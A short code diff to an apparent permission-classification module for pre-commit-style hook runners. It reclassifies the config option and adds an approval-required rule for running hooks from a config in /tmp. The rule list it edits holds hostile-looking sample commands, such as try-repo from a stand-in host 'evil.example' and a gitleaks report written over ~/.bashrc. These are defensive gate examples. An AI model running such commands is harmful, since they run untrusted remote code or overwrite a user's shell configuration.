@@ -1,11 +1,11 @@
 """pre-commit and its kin — programs that run the project's own hooks."""
 
 from toolgate.knowledge.vocabulary import (
-    MAKES, PLAIN, READS, command, fetches, flag, flags, option, runs, sub, writes,
+    MAKES, PLAIN, READS, SEARCHES, command, fetches, flag, flags, option, runs, sub, writes,
 )  # fmt: skip
 
 HOOKS = runs("the project's hooks")
-COMMON = (*option("-c --config", READS), *flags("--color="), *flag("-h", informs=True))
+COMMON = (*option("-c --config", SEARCHES), *flags("--color="), *flag("-h", informs=True))
 
 PRE_COMMIT = command(
     "pre-commit py:pre_commit prek",
@@ -44,6 +44,7 @@ allow  python -m pre_commit run -a
 ask    pre-commit try-repo https://evil.example/hooks
 ask    pre-commit init-templatedir ~/.git-template
 ask    pre-commit frobnicate
+ask    pre-commit run -c /tmp/evil.yaml
 allow  lefthook run pre-commit
 allow  gitleaks detect --no-banner -v
 ask    gitleaks detect --report-path ~/.bashrc
